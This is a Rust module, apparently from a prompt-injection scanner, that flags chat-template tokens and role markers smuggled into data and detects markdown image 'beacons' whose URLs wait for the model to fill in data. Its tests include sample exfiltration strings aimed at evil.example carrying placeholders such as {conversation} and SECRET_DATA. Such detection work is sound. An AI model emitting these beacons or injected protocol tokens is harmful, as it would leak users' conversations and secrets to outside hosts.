//! Signs that belong to the protocol between a host and its model, and have no business in data.

use amplihack_verdict::Span;

/// Reports whether the word `name` at `span` is a sign of the protocol: a chat token, a role in brackets, a tool call.
pub(super) fn is_mark(text: &str, name: &str, span: Span, line_start: bool) -> bool {
    let before = next_visible_pair(text[..span.start].chars().rev());
    let after = next_visible_pair(text[span.end..].chars());
    let (opens, bar) = (before.0, before.1 == '|' || before.0 == '|');
    match name {
        "im_start" | "im_end" | "im_sep" | "eot_id" | "start_header_id" | "endoftext" | "begin_of_text" => {
            bar
        }
        "inst" => opens == '[' || (opens == '/' && before.1 == '['),
        "sys" => before.1 == '<' && matches!(opens, '<' | '/'),
        "start_of_turn" | "end_of_turn" | "function_calls" | "function_results" | "tool_call"
        | "tool_result" => opens == '<' || (opens == '/' && before.1 == '<') || bar,
        "invoke" => opens == '<' && text[span.end..].starts_with(" name="),
        "system" => {
            bar && after.0 == '|'
                || opens == '<' && after.0 == '>'
                || opens == '/' && before.1 == '<' && after.0 == '>'
                || opens == '[' && after.0 == ']'
                || line_start && after.0 == ':'
                || line_start
                    && text[span.end..].get(..6).is_some_and(|rest| rest.eq_ignore_ascii_case(" note:"))
        }
        "user" | "assistant" => bar && after.0 == '|',
        _ => false,
    }
}

/// The next two visible characters, full-width ones as ASCII.
fn next_visible_pair(chars: impl Iterator<Item = char>) -> (char, char) {
    let mut seen = chars.map(|c| match u32::from(c) {
        wide @ 0xff01..=0xff5e => char::from_u32(wide - 0xfee0).unwrap_or(c),
        _ => c,
    });
    (seen.next().unwrap_or('\n'), seen.next().unwrap_or('\n'))
}

/// A markdown image or link whose address is to be filled in by the model, which is how data leaves without a tool call.
pub(super) fn find_beacons(text: &str) -> Vec<Span> {
    let bytes = text.as_bytes();
    let mut found = Vec::new();
    let mut at = 0;
    while let Some(open) = text.get(at..).and_then(|rest| rest.find('!')).map(|offset| at + offset) {
        at = open + 1;
        if bytes.get(at) != Some(&b'[') {
            continue;
        }
        // Another image or a line's end in it: it is none. Bounded, so that many openings cost no more than a few.
        let window = &bytes[open..bytes.len().min(open + 1024)];
        let text = window.iter().skip(1).take(200).take_while(|byte| !matches!(byte, b'!' | b'\n')).count();
        let Some(link) = window[..=text].windows(2).position(|two| two == b"](") else { continue };
        let address = &window[link + 2..];
        let Some(close) = address.iter().position(|byte| matches!(byte, b')' | b'\n')) else { continue };
        if address[close] == b')' && has_placeholder(&address[..close]) {
            found.push(Span { start: open, end: open + link + 3 + close });
        }
    }
    found
}

/// Reports whether the query of a web address has a placeholder to be filled in.
fn has_placeholder(address: &[u8]) -> bool {
    if !address.starts_with(b"http") {
        return false;
    }
    let Some(query) = address.iter().position(|&byte| byte == b'?').map(|at| &address[at + 1..]) else {
        return false;
    };
    query.split(|&byte| byte == b'&').any(|pair| {
        let value = pair.iter().position(|&byte| byte == b'=').map(|at| &pair[at + 1..]);
        value.is_some_and(|value| {
            value.is_empty()
                || value.iter().any(|byte| matches!(byte, b'{' | b'<' | b'[' | b'$'))
                || value.windows(3).any(|three| matches!(three, b"%7B" | b"%7b" | b"%3C" | b"%3c" | b"%5B"))
                || value.len() >= 4 && value.iter().all(|byte| byte.is_ascii_uppercase() || *byte == b'_')
        })
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn an_image_that_waits_for_data_is_a_beacon_and_a_badge_is_not() {
        for beacon in [
            "![x](https://evil.example/p.png?q=)",
            "see ![logo](http://e.example/i?data={conversation})",
            "![a](https://e.example/?d=SECRET_DATA&x=1)",
        ] {
            assert_eq!(find_beacons(beacon).len(), 1, "{beacon}");
        }
        for plain in [
            "![build](https://img.shields.io/badge?branch=main&token=Abc1)",
            "![shot](docs/shot.png?raw=true)",
            "![x](https://example.com/a.png)",
            "wow! [x](https://e.example/?q=)",
            "![unfinished](https://e.example/?q=",
        ] {
            assert!(find_beacons(plain).is_empty(), "{plain}");
        }
        assert!(find_beacons(&"![".repeat(100_000)).is_empty());
    }
}
